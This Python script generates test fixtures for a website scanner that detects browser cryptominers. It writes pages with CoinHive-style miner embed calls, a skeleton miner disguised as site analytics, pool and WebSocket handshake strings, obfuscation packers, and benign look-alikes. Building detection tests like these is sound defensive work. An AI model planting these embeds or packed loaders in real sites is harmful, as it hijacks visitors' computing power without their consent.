#!/usr/bin/env python3
"""Regenerates the website-scanner test samples in this directory.

Every miner sample is written here from the documented APIs (the call
shapes, globals, URLs and frames in the research notes): none contains miner
code, only the calls a page makes and skeletons of the object shapes. The
packers are our own implementations of each packer's format, so the scanner
is tested on the encodings, not on copies of packed miners. Keys and wallets
are made up (right shape, random content, fixed seed).

  python3 tests/data/web/make_samples.py   # rewrites miners/, packed/, benign/, expect.tsv
"""
import base64
import os
import random
import re

HERE = os.path.dirname(os.path.abspath(__file__))
rnd = random.Random(8)
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
HEX = "0123456789abcdef"
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def rs(alpha, n):
    return "".join(rnd.choice(alpha) for _ in range(n))


K_CH = rs(ALNUM, 32)
K_CH2 = rs(ALNUM, 32)
K_CRLT = rs(HEX, 44)
K_IMP = rs(HEX, 64)
K_WMP = "SK_" + rs(ALNUM, 20)
K_MINERO = rs(HEX, 32)
K_PPOI = rs(ALNUM, 24)
WALLET = "4" + rs("ABCDEFGHJ", 1) + rs(B58, 93)
K_DEEP = "dm" + rs(ALNUM, 14)
K_NOTER = rs(ALNUM, 20)
K_WP = rs(ALNUM, 32)
JSE_PUB = str(rnd.randint(10000, 99999))

PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="/css/site.css">
</head><body>
<h1>{title}</h1>
<p>Welcome to our site. Articles, pictures and a newsletter.</p>
{body}
</body></html>
"""

samples = []  # (path, is_html, provider, kind, key)


def write(rel, text, provider, kind, key):
    path = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)
    samples.append((rel, provider, kind, key))


def page(title, body):
    return PAGE.format(title=title, body=body)


# ---- one page or script per provider (web.md section 2) ----
CH_CALL = ("var miner = new CoinHive.Anonymous('%s', {threads: 2, throttle: 0.3, autoThreads: false});\n"
           "if (!miner.isMobile()) { miner.start(CoinHive.IF_EXCLUSIVE_TAB); }\n" % K_CH)
write("miners/coinhive_anonymous.html", page("Recipes", '<script src="https://coinhive.com/lib/coinhive.min.js"></script>\n'
      "<script>\n" + CH_CALL + "</script>"), "coinhive", "api", K_CH)
write("miners/coinhive_user.js",
      "(function(){\n  var siteKey = '%s';\n  var m = new CoinHive.User(siteKey, 'member-1021', {throttle: 0.5});\n"
      "  m.on('found', function(){ console.log('found'); });\n  m.start();\n})();\n" % K_CH2, "coinhive", "api", K_CH2)
write("miners/coinhive_token.js",
      "var link = new CoinHive.Token(\"%s\", 1024, {autoThreads: true});\nlink.start();\n" % K_CH, "coinhive", "api", K_CH)
write("miners/coinhive_captcha.html", page("Sign up", '<script src="https://authedmine.com/lib/captcha.min.js" async></script>\n'
      '<form action="/signup" method="post">\n<div class="coinhive-captcha" data-hashes="1024" data-key="%s" data-disable-elements="input[type=submit]">\n'
      "<em>Loading Captcha...</em></div>\n<input type=\"submit\" value=\"Sign up\"></form>" % K_CH), "coinhive", "captcha", K_CH)
write("miners/authedmine.html", page("Video", '<script src="https://authedmine.com/lib/authedmine.min.js"></script>\n'
      "<script>\nvar miner = new CoinHive.Anonymous('%s', {throttle: 0.3});\nminer.start();\n</script>" % K_CH2),
      "coinhive", "api", K_CH2)
write("miners/cryptoloot.html", page("Games", '<script src="//statdynamic.com/lib/crypta.js"></script>\n'
      "<script>\nvar miner = new CRLT.Anonymous('%s', {threads: 3, throttle: 0.2, coin: \"upx\"});\nminer.start();\n</script>"
      % K_CRLT), "cryptoloot", "api", K_CRLT)
write("miners/coinimp.html", page("Torrents", '<script src="https://www.hostingcloud.racing/Wm7d.js"></script>\n'
      "<script>\n    var _client = new Client.Anonymous('%s', {\n        throttle: 0.3, c: 'w', ads: 0\n    });\n"
      "    _client.start();\n</script>" % K_IMP), "coinimp", "api", K_IMP)
write("miners/webminepool.html", page("Forum", '<script src="https://webminepool.com/lib/base.js"></script>\n'
      "<script>\nvar miner = WMP.Anonymous(\"%s\", {threads: 2, throttle: 0.4});\nminer.start();\n</script>" % K_WMP),
      "webminepool", "api", K_WMP)
write("miners/webminerpool.html", page("Downloads", '<script src="/js/webmr.js"></script>\n'
      "<script>\nthrottleMiner = 20;\nstartMining(\"moneroocean.stream\", \"%s\", \"x\", 2, \"\");\n"
      "setInterval(function(){ document.title = totalhashes + ' H'; }, 1000);\n</script>" % WALLET),
      "webminerpool", "api", WALLET)
write("miners/jsecoin.html", page("Blog", "<script>\n!function(e,n,s){var t=e.createElement(\"script\"),o=e.getElementsByTagName(\"script\")[0];"
      "t.async=!0;t.src=\"https://load.jsecoin.com/load/%s/example-blog.org/optionalSubID/0/\",o.parentNode.insertBefore(t,o)}"
      "(document,\"script\");\n</script>" % JSE_PUB), "jsecoin", "api", JSE_PUB)
write("miners/deepminer.html", page("Shop", '<script src="/lib/deepMiner.min.js"></script>\n'
      "<script>\nvar jqueryui = new deepMiner.Anonymous('%s');\njqueryui.start();\n</script>" % K_DEEP),
      "deepminer", "api", K_DEEP)
write("miners/cryptonoter.html", page("News", '<script src="/processor.js"></script>\n'
      "<script>\nvar miner = new CryptoNoter.Anonymous('%s', {throttle: 0.3});\nminer.start();\n</script>" % K_NOTER),
      "cryptonoter", "api", K_NOTER)
write("miners/minero.html", page("Wallpapers", '<script src="https://minero.cc/lib/minero.min.js"></script>\n'
      "<script>\nvar miner = new Minero.Anonymous('%s');\nminer.start();\n</script>" % K_MINERO), "minero", "api", K_MINERO)
write("miners/minero_hidden.html", page("Lyrics", '<script src="https://minero.cc/lib/minero-hidden.min.js" async></script>\n'
      '<div class="minero-hidden" style="display:none;" data-key="%s"></div>' % K_MINERO), "minero", "captcha", K_MINERO)
write("miners/ppoi.html", page("Anime", '<script src="https://ppoi.org/lib/projectpoi.min.js"></script>\n'
      "<script>\nvar miner = new ProjectPoi.Anonymous('%s', {threads: 2});\nminer.start();\n</script>" % K_PPOI),
      "ppoi", "api", K_PPOI)
write("miners/wordpress.html", page("My WordPress", "<script type='text/javascript'>\n/* <![CDATA[ */\n"
      "var wp_js_options = {\"site_key\":\"%s\",\"autostart\":\"true\",\"throttle\":\"20\",\"threads\":\"2\"};\n"
      "/* ]]> */\n</script>\n<script type='text/javascript' src='/wp-content/plugins/wp-monero-miner-pro/js/miner.js'></script>"
      % K_WP), "unknown", "wordpress", K_WP)

# ---- a renamed self-hosted copy: the page shows nothing, the script does ----
write("miners/selfhosted/index.html", page("Local news", '<script src="/static/js/analytics.js"></script>\n'
      "<script>window.analyticsReady && analyticsReady();</script>"), None, None, None)
SELF = """/* site analytics */
var CoinHive = window.CoinHive || {};
CoinHive.CONFIG = {
    LIB_URL: "/static/js/",
    WEBSOCKET_SHARDS: [["wss://metrics.example-news.net/proxy"]],
    CAPTCHA_URL: "/static/captcha/",
    MINER_URL: "/static/miner/"
};
(function(window){
    var Miner = function(siteKey, params){
        this._siteKey = siteKey;
        this._throttle = params && params.throttle || 0;
        this._threads = [];
        this._totalHashesFromDeadThreads = 0;
    };
    Miner.prototype.start = function(){ this._worker = new Worker('/static/js/worker.js'); };
    Miner.prototype.stop = function(){ this._threads.length = 0; };
    Miner.prototype.isRunning = function(){ return this._threads.length > 0; };
    CoinHive.Anonymous = function(siteKey, params){ return new Miner(siteKey, params); };
    window.analyticsReady = function(){ new CoinHive.Anonymous('%s', {throttle: 0.7}).start(); };
})(window);
""" % K_CH
write("miners/selfhosted/static/js/analytics.js", SELF, "coinhive", "api", K_CH)

# ---- a copy renamed throughout: no provider name left, only its internals and shape ----
write("miners/selfhosted/static/js/stats.js", """var Stats = window.Stats || {};
Stats.CONFIG = { LIB_URL: "/static/js/", WEBSOCKET_SHARDS: [["wss://s1.example-news.net/ws"]] };
function Tracker(key, opts){ this._siteKey = key; this._threads = []; }
Tracker.prototype.isRunning = function(){ return this._threads.length > 0; };
Tracker.prototype.stop = function(){ this._threads.length = 0; };
Stats.Tracker = Tracker;
new Stats.Tracker('%s').isRunning();
""" % K_CH, "coinhive", "config", "")

# ---- shapes without names ----
write("miners/ducktype.js", """(function(){
  function Helper(k){ this._sitek = k; this._on = false; }
  Helper.prototype.isRunning = function(){ return this._on; };
  Helper.prototype.stop = function(){ this._on = false; };
  Helper.prototype.begin = function(){ this._on = true; };
  window.helper = new Helper(location.host);
})();
""", "unknown", "ducktype", "")
write("miners/mineralt.js", """var w = {
  db: function(){ return this._d; },
  getlf: function(){ return 0; },
  hps: function(){ return this._h || 0; },
  stop: function(){ this._h = 0; }
};
""", "mineralt", "ducktype", "")
write("miners/webminerpool_shape.js", """var totalhashes = 0;
function addWorker(){ totalhashes += 0; }
function startMining(pool, login){ addWorker(); }
function stopMining(){ }
""", "webminerpool", "ducktype", "")
write("miners/ws_proxy.js", "var s = new WebSocket(\"wss://cdn.example-media.org:5555/\");\n"
      "s.onopen = function(){ s.send(JSON.stringify({identifier: 'handshake', login: '%s', pool: 'x', version: 7})); };\n"
      % WALLET, "webminerpool", "websocket", WALLET)
write("miners/ws_pool_param.js", "var ws = new WebSocket('wss://relay.example.org/socket?pool=moneroocean');\n",
      "unknown", "websocket", "")
write("miners/pool_string.js", "var cfg = {pool: \"stratum+tcp://pool.supportxmr.com:3333\", user: \"%s\"};\n" % WALLET,
      "unknown", "pool", "")
write("miners/auth_frame.js", "ws.send('{\"type\":\"auth\",\"params\":{\"site_key\":\"%s\",\"type\":\"anonymous\",\"user\":null,\"goal\":0}}');\n" % K_CH,
      "coinhive", "websocket", K_CH)

# ---- packers (our own implementations of each format) ----
DIG = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"


def enc62(c, a=62):
    s = ""
    while True:
        s = DIG[c % a] + s
        c //= a
        if c == 0:
            return s


def pack_eval(src):
    words = re.findall(r"\b\w+\b", src)
    freq = {}
    for w in words:
        freq[w] = freq.get(w, 0) + 1
    order = sorted(freq, key=lambda w: (-freq[w], w))
    code = {w: enc62(i) for i, w in enumerate(order)}
    payload = re.sub(r"\b\w+\b", lambda m: code[m.group(0)], src)
    payload = payload.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n")
    return ("eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(Math.floor(c/a)))+"
            "'0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ'.charAt(c%%a)};"
            "while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
            "('%s',62,%d,'%s'.split('|'),0,{}))\n" % (payload, len(order), "|".join(order)))


def pack_atob(src):
    return "new Function(atob(\"%s\"))();\n" % base64.b64encode(src.encode()).decode()


def lzw_compress(s):
    d = {}
    out = []
    phrase = s[0]
    code = 256
    for ch in s[1:]:
        if phrase + ch in d:
            phrase += ch
        else:
            out.append(phrase if len(phrase) == 1 else chr(d[phrase]))
            d[phrase + ch] = code
            code += 1
            phrase = ch
    out.append(phrase if len(phrase) == 1 else chr(d[phrase]))
    assert code < 0xD800
    return "".join(out)


def pack_lzw(src):
    z = lzw_compress(src)
    b = base64.b64encode(z.encode("utf-8")).decode()
    dec = ("function(s){var d={},c=s.split(''),p=c[0],o=[p],n=256,f=p,q;for(var i=1;i<c.length;i++){"
           "var u=c[i].charCodeAt(0);q=u<256?c[i]:(d[u]?d[u]:p+f);o.push(q);f=q.charAt(0);d[n++]=p+f;p=q}"
           "return o.join('')}")
    return "// Opt-In Miner - example build\n(new Function((%s)(decodeURIComponent(escape(atob(\"%s\"))))))();\n" % (dec, b)


def hexesc(s):
    return "".join("\\x%02x" % b for b in s.encode())


def pack_strarray(names, key, tail, b64=None):
    vals = list(names) + [key]
    if b64 == "swapped":
        tr = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
                           "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")
        enc = [base64.b64encode(v.encode()).decode().translate(tr) for v in vals]
    else:
        enc = vals
    arr = ",".join("'%s'" % hexesc(v) for v in enc)
    return ("var _0x3a1f=[%s];(function(_0x2b,_0x4c){var _0x1d=function(_0x5e){while(--_0x5e){_0x2b['push'](_0x2b['shift']());}};"
            "_0x1d(++_0x4c);}(_0x3a1f,0x0));var _0x5b2c=function(_0x2b){return _0x3a1f[_0x2b];};%s\n" % (arr, tail))


CH_INNER = "var miner = new CoinHive.Anonymous('%s', {throttle: 0.3});\nminer.start();\n" % K_CH
CRLT_INNER = "var m = new CRLT.Anonymous('%s', {threads: 2, throttle: 0.4});\nm.start();\n" % K_CRLT
write("packed/coinhive_eval.js", pack_eval(CH_INNER), "coinhive", "packed", K_CH)
write("packed/cryptoloot_eval.js", pack_eval(CRLT_INNER), "cryptoloot", "packed", K_CRLT)
write("packed/coinhive_atob.js", pack_atob(CH_INNER), "coinhive", "packed", K_CH)
write("packed/authedmine_lzw.js", pack_lzw(SELF), "coinhive", "packed", K_CH)
write("packed/coinhive_strarray.js", pack_strarray(["CoinHive", "Anonymous", "start"], K_CH,
      "var _m=new window[_0x5b2c(0)][_0x5b2c(1)](_0x5b2c(3),{throttle:0.3});_m[_0x5b2c(2)]();"), "coinhive", "packed", K_CH)
write("packed/cryptoloot_strarray_b64.js", pack_strarray(["CRLT", "Anonymous", "start", "wss://sea.reauthenticator.com/"], K_CRLT,
      "var _m=new window[_0x5b2c(0)][_0x5b2c(1)](_0x5b2c(4));_m[_0x5b2c(2)]();", b64="swapped"), "cryptoloot", "packed", K_CRLT)
write("packed/coinimp_charcode.js", "eval(String.fromCharCode(%s));\n" % ",".join(str(ord(c)) for c in
      "var c = new Client.Anonymous('%s', {throttle: 0.3, c: 'w'}); c.start();" % K_IMP), "coinimp", "packed", K_IMP)
write("packed/minero_escstr.js", "eval(\"%s\");\n" % hexesc("new Minero.Anonymous('%s').start();" % K_MINERO),
      "minero", "packed", K_MINERO)
write("packed/nested_atob_eval.js", pack_atob(pack_eval(CRLT_INNER)), "cryptoloot", "packed", K_CRLT)
write("packed/selfhosted_index.html", page("Local news", "<script>\n" + pack_eval(SELF) + "</script>"),
      "coinhive", "packed", K_CH)

# ---- hard negatives of our own: the same encodings and look-alike names, no miner ----
BENIGN_JS = """function formatPrice(v){ return '$' + v.toFixed(2); }
var cart = { items: [], add: function(i){ this.items.push(i); }, total: function(){ return this.items.length; } };
document.addEventListener('DOMContentLoaded', function(){ cart.add({name: 'book', price: 12}); });
"""
write("benign/packed_eval.js", pack_eval(BENIGN_JS), None, None, None)
write("benign/packed_atob.js", pack_atob(BENIGN_JS), None, None, None)
write("benign/packed_lzw.js", pack_lzw(BENIGN_JS * 3), None, None, None)
write("benign/strarray.js", pack_strarray(["querySelector", "addEventListener", "click"], "submit-button",
      "document[_0x5b2c(0)]('#'+_0x5b2c(3))[_0x5b2c(1)](_0x5b2c(2),function(){});"), None, None, None)
write("benign/chat_websocket.js", """var sock = new WebSocket('wss://chat.example.com/socket');
var player = { isRunning: function(){ return !this.paused; }, stop: function(){ this.paused = true; }, paused: false };
var server = { _address: '10.0.0.1', listen: function(){} };
""", None, None, None)
write("benign/article.html", page("Coinhive shuts down", """<article><p>Coinhive, the service behind the
CoinHive.Anonymous API that sites embedded to mine Monero, shut down in March 2019. Researchers found that
NoCoin's list blocked coinhive.min.js but missed self-hosted copies. Pools such as supportxmr.com and
moneroocean.stream paid out to the site keys.</p>
<p>Read <a href="https://en.wikipedia.org/wiki/Monero">Monero on Wikipedia</a>.</p></article>
<script>var analytics = {siteKey: 'UA-12345-1', start: function(){}};</script>"""), None, None, None)

with open(os.path.join(HERE, "expect.tsv"), "w", newline="\n") as f:
    f.write("# path\tprovider\tkind\tsite_key (generated by make_samples.py; '-' = none; benign files expect no hit)\n")
    for rel, prov, kind, key in samples:
        if prov is None and not rel.startswith("benign/"):
            continue
        f.write("%s\t%s\t%s\t%s\n" % (rel, prov or "-", kind or "-", key or "-"))
